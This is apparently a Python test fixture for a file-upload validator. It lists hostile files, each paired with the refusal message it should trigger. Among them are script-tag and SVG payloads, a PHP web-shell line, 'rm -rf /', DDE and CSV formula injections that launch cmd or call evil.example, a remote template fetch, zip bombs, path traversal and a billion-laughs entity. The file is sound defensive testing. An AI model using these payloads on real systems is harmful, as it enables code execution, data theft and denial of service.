"""Hostile files: each is refused, with the words that the sentence has."""

import base64
import struct
import zipfile
import zlib

import pikepdf

from tests.files import (
    WORD,
    docx,
    jpeg,
    office,
    opendocument,
    pdf,
    picture,
    png,
    pptx,
    xlsx,
    zipped,
)
from tests.files.hostile_office import HOSTILE_DOCUMENTS, word_document
from tests.files.hostile_opendocument import open_document

HTML = b"<!DOCTYPE html><html><script>alert(document.cookie)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
PROGRAM = b"MZ\x90\x00" + bytes(60) + b"This program cannot be run in DOS mode"
OLD_OFFICE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><x>&b;</x>'
REMOTE = (
    '<Relationships><Relationship Type="http://schemas/attachedTemplate" '
    'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)
MACROS, TWO, BROKEN = "contains macros", "is two files in one", "cannot be read"
FOREIGN, LOCKED, SCRIPT = "not part of a document", "has a password", "not plain text"


def with_flag(content):
    """The same zip, its first part marked as encrypted."""
    at = content.index(b"PK\x01\x02") + 8
    return content[:at] + b"\x01\x00" + content[at + 2 :]


def with_false_size(content):
    """The same zip, whose list says that its last part unpacks to one byte."""
    at = content.rindex(b"PK\x01\x02") + 24
    return content[:at] + struct.pack("<L", 1) + content[at + 4 :]


def with_comment(content):
    return content[:-2] + struct.pack("<H", len(HTML)) + HTML


def bomb():
    """300 MB of nothing in 300 KB."""
    return docx(("word/media/image1.png", bytes(300_000_000)))


def many_parts():
    return docx(*((f"word/{n}.xml", "") for n in range(3001)))


def flood():
    """A PNG that claims to be 60,000 points wide and high, in a few hundred bytes."""
    header = struct.pack(">LLBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
    small, start = png(), b"IHDR" + header
    return small[:12] + start + struct.pack(">L", zlib.crc32(start)) + small[33:]


def encrypted(**passwords):
    return pdf(encryption=pikepdf.Encryption(**passwords))


def portfolio():
    """A cover, and the files that it is about."""

    def change(made):
        made.attachments["minutes.txt"] = b"The minutes"
        made.Root.Collection = pikepdf.Dictionary(Type=pikepdf.Name.Collection)

    return pdf(change=change)


def drawn_form():
    """“Please wait”: what is to be read is drawn by a program from the data."""

    def change(made):
        made.Root.AcroForm = pikepdf.Dictionary(Fields=[], XFA=pikepdf.String("<xdp>data</xdp>"))

    return pdf(change=change)


def asked_form():
    def change(made):
        box = made.make_indirect(pikepdf.Dictionary(FT=pikepdf.Name.Tx, T=pikepdf.String("a")))
        made.Root.AcroForm = pikepdf.Dictionary(Fields=[box], XFA=pikepdf.String("<xdp/>"))
        made.Root.NeedsRendering = True

    return pdf(change=change)


def tall_tower():
    """Arrays in arrays, deeper than a reader can follow."""
    tower = b"[" * 200_000 + b"]" * 200_000
    return b"%PDF-1.4\n1 0 obj\n" + tower + b"\nendobj\ntrailer<</Root 1 0 R>>"


MAIL = b"From: a@b.example\nMIME-Version: 1.0\nContent-Type: text/html\n\n" + HTML
DDE = word_document('<w:instrText>DDEAUTO c:\\\\cmd.exe "/k calc"</w:instrText>')
RUN = open_document(
    '<script:event-listener xlink:href="vnd.sun.star.script:x.py$run?language=Python"/>'
)

FORMULAS = {
    "a formula behind another separator": b"a,b\n1,2\nA;=cmd|' /C calc'!A0,1\n",
    "a formula behind a bar": b"a,b\n1,2\n1|=1+1,3\n",
    "a formula behind a tab": b"a,b\n1,2\nx\t=1+1,3\n",
    "a formula behind a line of an old Mac": b"a,b\n1,2\r=1+1,3\n",
    "a formula in wide letters": "a,b\n1,2\n\uff1dcmd,3\n".encode(),
    "a formula after a hard blank": "a,b\n1,2\n\u00a0=1+1,3\n".encode(),
    "a function after a sign": b'a,b\n1,2\n-HYPERLINK("http://evil.example/"&A1),3\n',
    "a function in another language": b"a,b\n1,2\n+WEBDIENST(A1),3\n",
    "a function after a blank": b'a,b\n1,2\n"-1+WEBSERVICE (""http://evil.example/"")",3\n',
    "a function of a function": b"a,b\n1,2\n-1+WEBSERVICE (CONCATENATE (A1)),3\n",
    "a cell of another book": b"a,b\n1,2\n+[evil.xlsx]Sheet1!A1,3\n",
    "a cell of a file on the web": b"a,b\n1,2\n+'http://evil.example/a.ods'#$Sheet1.A1,3\n",
    "a program without quotes": b"a,b\n1,2\n-1+cmd|x!A0,3\n",
    "a formula after a number": b"a;b\n1;2\n-1,2*WEBSERVICE(A1);3\n",
}

# What it is → its name, its content, and words of the sentence.
HOSTILE = {
    "empty": ("empty.pdf", b"", "is empty"),
    "too large": ("large.txt", b"a" * 25_000_001, "Choose a file of 25 MB or less"),
    "a page": ("page.html", HTML, "is a web page. Save it as a PDF"),
    "an old page": ("page.htm", HTML, "is a web page. Save it as a PDF"),
    "a packed page": ("page.mhtml", MAIL, "is a web page. Save it as a PDF"),
    "an active picture": ("plan.svg", SVG, "is a web page. Save it as a PDF"),
    "xml": ("data.xml", b"<x/>", "is a web page. Save it as a PDF"),
    "an active picture as png": ("plan.png", SVG, "is not a PNG picture"),
    "a page as jpeg": ("photo.jpg", HTML, "is not a JPEG picture"),
    "a page as pdf": ("plan.pdf", HTML, "is not a PDF"),
    "a page as text": ("notes.txt", HTML, SCRIPT),
    "a page after blanks": ("notes.txt", b"\n \n\t" + HTML, SCRIPT),
    "a page in capitals": ("notes.txt", b"<SCRIPT SRC=//x.example>", SCRIPT),
    "a page in utf-16": ("notes.txt", HTML.decode().encode("utf-16"), SCRIPT),
    "a page as table": ("list.csv", HTML, SCRIPT),
    "an active picture as text": ("notes.txt", SVG, SCRIPT),
    "php": ("notes.txt", b"<?php system($_GET['c']);", SCRIPT),
    "a shell script": ("notes.txt", b"#!/bin/sh\nrm -rf /\n", SCRIPT),
    "postscript": ("notes.txt", b"%!PS-Adobe-3.0\n", SCRIPT),
    "rich text as text": ("notes.txt", b"{\\rtf1\\object}", SCRIPT),
    "a mail as text": ("notes.txt", MAIL, SCRIPT),
    "a mail": ("letter.eml", MAIL, "saved email"),
    "an outlook mail": ("letter.msg", OLD_OFFICE, "saved email"),
    "a program": ("setup.exe", PROGRAM, "not a type of file you can send"),
    "a program as pdf": ("plan.pdf", PROGRAM, "is not a PDF"),
    "a program as text": ("notes.txt", PROGRAM, SCRIPT),
    "a program with two endings": ("photo.jpg.exe", PROGRAM, "not a type of file"),
    "a page with two endings": ("plan.pdf.html", HTML, "is a web page. Save it as a PDF"),
    "a program read backwards": ("photo\u202egpj.exe", PROGRAM, "not a type of file"),
    "a shortcut": ("plan.pdf.lnk", b"L\0\0\0\x01\x14", "not a type of file"),
    "a script": ("plan.js", b"new ActiveXObject('WScript.Shell')", "not a type of file"),
    "a disk": ("plan.iso", bytes(2048), "is compressed"),
    "a name of dots": ("...", PROGRAM, "not a type of file"),
    "a script without ending": ("plan", b"#!/bin/sh", "not a type of file"),
    "text with escapes": ("notes.txt", b"\x1b]0;owned\x07", SCRIPT),
    "text with nothing in it": ("notes.txt", b"a\0b", SCRIPT),
    "a zip": ("files.zip", zipped([("a.txt", "a")]), "is compressed"),
    "a zip as word": ("plan.docx", zipped([("a.txt", "a")]), "is a zip file, not a document"),
    "a jar as word": ("plan.docx", zipped([("a.class", "a")]), MACROS),
    "macros by name": ("plan.docm", docx(), "can contain macros"),
    "binary sheets": ("sums.xlsb", xlsx(), "can contain macros"),
    "word with macros": ("plan.docx", docx(("word/vbaProject.bin", OLD_OFFICE)), MACROS),
    "excel with macros": ("sums.xlsx", xlsx(("xl/vbaProject.bin", OLD_OFFICE)), MACROS),
    "powerpoint with macros": ("talk.pptx", pptx(("ppt/vbaProject.bin", b"")), MACROS),
    "excel with old macros": ("sums.xlsx", xlsx(("xl/macrosheets/s1.xml", "<x/>")), MACROS),
    "word that says macros": ("plan.docx", docx(types="<x macroEnabled='1'/>"), MACROS),
    "word with a control": ("plan.docx", docx(("word/activeX/activeX1.xml", "<x/>")), MACROS),
    "word with an object": ("plan.docx", docx(("word/embeddings/oleObject1.bin", b"")), MACROS),
    "word with a program": ("plan.docx", docx(("word/media/run.exe", PROGRAM)), MACROS),
    "word with a page": ("plan.docx", docx(("word/afchunk.html", HTML)), FOREIGN),
    "word with a zip": ("plan.docx", docx(("word/more.zip", zipped([("a", "a")]))), FOREIGN),
    "word that fetches": (
        "plan.docx",
        docx(("word/_rels/s.xml.rels", REMOTE)),
        "downloads something",
    ),
    "word that runs": ("plan.docx", docx(("word/document.xml", DDE)), MACROS),
    "excel that runs": ("sums.xlsx", xlsx(("xl/externalLinks/l.xml", "<ddeLink/>")), MACROS),
    "word with entities": ("plan.docx", docx(("word/document.xml", LAUGHS)), MACROS),
    "word in utf-16": (
        "plan.docx",
        docx(("word/document.xml", LAUGHS.encode("utf-16"))),
        FOREIGN,
    ),
    "word that climbs out": ("plan.docx", docx(("../../evil.xml", "<x/>")), FOREIGN),
    "word from the root": ("plan.docx", docx(("/etc/cron.xml", "<x/>")), FOREIGN),
    "word on a drive": ("plan.docx", docx(("C:evil.xml", "<x/>")), FOREIGN),
    "word with a password inside": ("plan.docx", with_flag(docx()), LOCKED),
    "word that lies of its size": ("plan.docx", with_false_size(docx()), BROKEN),
    "a bomb": ("plan.docx", bomb, "expands to far more"),
    "a bomb of names": ("plan.docx", many_parts, "expands to far more"),
    "word then a page": ("plan.docx", docx() + HTML, TWO),
    "a page then word": ("plan.docx", HTML + docx(), "is not a Word document"),
    "word then word": ("plan.docx", docx() + docx(), TWO),
    "word with a remark": ("plan.docx", with_comment(docx()), TWO),
    "half of word": ("plan.docx", docx()[:-30], TWO),
    "word squeezed oddly": (
        "plan.docx",
        zipped([("[Content_Types].xml", WORD)], zipfile.ZIP_LZMA)[:-40],
        TWO,
    ),
    "writer with macros": (
        "plan.odt",
        opendocument("text", ("Basic/Standard/M.xml", "<x/>")),
        MACROS,
    ),
    "writer with scripts": (
        "plan.odt",
        opendocument("text", ("Scripts/python/x.py", "1")),
        MACROS,
    ),
    "writer that runs": ("plan.odt", opendocument("text", ("styles.xml", RUN)), MACROS),
    "calc that asks": (
        "sums.ods",
        opendocument("spreadsheet", ("styles.xml", "<x dde-source=''/>")),
        MACROS,
    ),
    "writer as word": ("plan.docx", opendocument(), "it is a .odt file"),
    "word as excel": ("sums.xlsx", docx(), "it is a .docx file"),
    "drawing as writer": ("plan.odt", opendocument("graphics"), "is a zip file, not a document"),
    "old word": ("plan.doc", OLD_OFFICE, "older format"),
    "locked word": ("plan.docx", OLD_OFFICE, "has a password or is in an older format"),
    "rich text": ("plan.rtf", b"{\\rtf1}", "older format"),
    "a locked pdf": ("plan.pdf", lambda: encrypted(user="secret"), LOCKED),
    "a portfolio": ("plan.pdf", portfolio, "is a portfolio"),
    "a form that a program draws": ("plan.pdf", drawn_form, "is a form that only some programs"),
    "a form whose program is asked": ("a.pdf", asked_form, "is a form that only some programs"),
    "a pdf with two passwords": ("a.pdf", lambda: encrypted(owner="a", user="b"), LOCKED),
    "half of a pdf": ("plan.pdf", b"%PDF-1.7\n1 0 obj", BROKEN),
    "a pdf of nothing": ("plan.pdf", pdf(0), "has no pages"),
    "a pdf of towers": ("plan.pdf", tall_tower, BROKEN),
    "a page then a pdf": ("plan.pdf", HTML + pdf(), "is not a PDF"),
    "a pdf as jpeg": ("photo.jpg", pdf(), "it is a PDF"),
    "a jpeg as pdf": ("plan.pdf", jpeg(), "it is a picture"),
    "half of a jpeg": ("photo.jpg", jpeg()[:300], BROKEN),
    "a broken png": ("photo.png", png()[:40] + b"XXXX" + png()[44:], BROKEN),
    "a flood": ("photo.png", flood, "80 million pixels"),
    "a heic of nothing": ("photo.heic", b"\0\0\0\x18ftypheic" + bytes(200), BROKEN),
    "a gif": ("photo.gif", picture("GIF"), "type of picture we cannot accept"),
    "a gif as png": ("photo.png", picture("GIF"), "is not a PNG picture"),
    "a gif and a jar": ("photo.jpg", picture("GIF") + zipped([("a", "a")]), "is not a JPEG"),
    "a tiff": ("photo.tif", picture("TIFF"), "can have several pages. Save it as a PDF"),
    "a formula": ("list.csv", b"name,sum\nA,=cmd|' /C calc'!A0\n", "a formula in row 2"),
    "a formula after at": ("list.csv", b"@SUM(1+1)*cmd|' /C calc'!A0", "formula in row 1"),
    "a formula after plus": ("list.csv", b"a;+cmd|' /C calc'!A0", "formula in row 1"),
    "a formula after minus": ("list.csv", b"a\t-2+3+cmd|' /C calc'!A0", "formula in row 1"),
    "a formula in quotes": ("list.csv", b'a,"=1+1"', "formula in row 1"),
    "a formula after blanks": ("list.csv", b"a,  =1+1", "formula in row 1"),
    "a table without end": ("list.csv", b'a,"' + b"x" * 1_100_000, "not a table"),
    "an archive": ("all.7z", b"7z\xbc\xaf\x27\x1c", "is compressed"),
    "base64 of a page": ("page.b64", base64.b64encode(HTML), "not a type of file"),
    "office of nothing": ("plan.docx", office(""), "is a zip file, not a document"),
    **HOSTILE_DOCUMENTS,
    **{what: ("a.csv", content, "a formula in row 3") for what, content in FORMULAS.items()},
}
